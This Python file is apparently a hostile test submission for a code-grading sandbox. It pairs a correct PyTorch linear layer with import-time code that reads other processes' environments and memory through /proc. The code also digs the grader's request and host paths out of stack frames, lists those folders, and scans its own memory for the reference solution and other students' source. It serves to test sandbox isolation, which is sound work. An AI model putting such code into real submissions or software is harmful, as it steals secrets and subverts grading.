"""Hostile: a correct class, and a spy: it prints (as 'SNOOP key: value' lines) what it can reach.

The environment of every process it sees (/proc/N/environ), the memory of other processes
(/proc/N/mem), the grader's own request (found on the stack: host paths of its file and the results), the
folders of other students and the reference, and its own memory, inherited from the warm process
it was forked from, searched for the reference's and other students' source."""
import torch
import torch.nn as nn


class MyLinear(nn.Module):
    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        self.weights = nn.Parameter(torch.randn(in_features, out_features))
        if bias:
            self.bias = nn.Parameter(torch.randn(out_features))
        else:
            self.bias = None

    def forward(self, x):
        out = x @ self.weights
        if self.bias is not None:
            out = out + self.bias
        return out


import mmap
import os
import sys

SECRET = b"".join([b"hostile-", b"secret-", b"do-not-leak"])  # never contiguous in this file
NEEDLES = {
    "reference_source_in_memory": b"".join([b"Reference solution: a ", b"linear layer built from"]),
    "alice_source_in_memory": b"".join([b"# Alice - MyLinear ", b"built from nn.Module"]),
    "own_source_in_memory": b"".join([b"def search_own", b"_memory(needles):"]),  # the search works
}


def report(key, value):
    print(f"SNOOP {key}: {value}", flush=True)


pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
report("visible_pids", pids)
commands = {}
for pid in pids:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            commands[pid] = handle.read().replace(b"\0", b" ")[:100].decode(errors="replace")
    except OSError:
        pass
report("visible_commands", sorted(set(commands.values())))

leaked = []
for pid in pids:
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            if SECRET in handle.read():
                leaked.append(pid)
    except OSError:
        pass
report("secret_in_environ_of", leaked)
with open("/proc/1/environ", "rb") as handle:
    report("proc_1_environ_keys", sorted(e.split(b"=")[0].decode() for e in handle.read().split(b"\0") if e))

other_memory = []
for pid in pids:
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            start = int(maps.readline().split("-")[0], 16)
            mem.seek(start)
            if mem.read(16):
                other_memory.append(pid)
    except (OSError, ValueError):
        pass
report("read_memory_of", other_memory)

hidden = []
frame = sys._getframe()
while frame is not None:  # the sandbox's request is a local of a caller: paths of the host
    request = frame.f_locals.get("request")
    if hasattr(request, "source") and hasattr(request, "result"):
        hidden = [str(request.source), str(request.result)]
    frame = frame.f_back
if not hidden:  # ...or at least somewhere in memory
    import gc

    hidden = next(([str(o.source), str(o.result)] for o in gc.get_objects()
                   if type(o).__name__ == "SandboxRequest"), [])
hidden += sorted({os.path.dirname(path) for path in hidden})
report("found_hidden_paths", bool(hidden))
contents = {}
for path in hidden:
    try:
        contents[path] = sorted(os.listdir(path)) if os.path.isdir(path) else open(path).read(50)
    except OSError as error:
        contents[path] = error.strerror
report("hidden_paths_hold", sorted({str(v) for v in contents.values()}))


def search_own_memory(needles):
    """Every readable private mapping of this process, searched for each needle (copies made by
    the search itself excluded: the needles' own bytes and the read buffer)."""
    found = {key: False for key in needles}
    own = {id(needle) + 32 for needle in needles.values()}  # where a bytes object keeps its data
    buffer = mmap.mmap(-1, 64 << 20)
    import ctypes

    buffer_start = ctypes.addressof(ctypes.c_char.from_buffer(buffer))
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    chunk, overlap = 64 << 20, 4096  # a large region is read in chunks that overlap by a needle's length
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for fields in regions:
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or start == buffer_start:
                continue
            if len(fields) > 5 and fields[5].startswith("["):
                if fields[5] not in ("[heap]", "[stack]"):
                    continue
            at_region = start
            while at_region < end:
                try:
                    mem.seek(at_region)
                    size = mem.readinto(memoryview(buffer)[: min(chunk, end - at_region)])
                except (OSError, ValueError, OverflowError):
                    break
                for key, needle in needles.items():
                    at = buffer.find(needle, 0, size)
                    while at != -1:
                        if at_region + at not in own:
                            found[key] = True
                        at = buffer.find(needle, at + 1, size)
                if not size or at_region + size >= end:
                    break
                at_region += size - overlap
    return found


for key, value in search_own_memory(NEEDLES).items():
    report(key, value)
report("done", True)
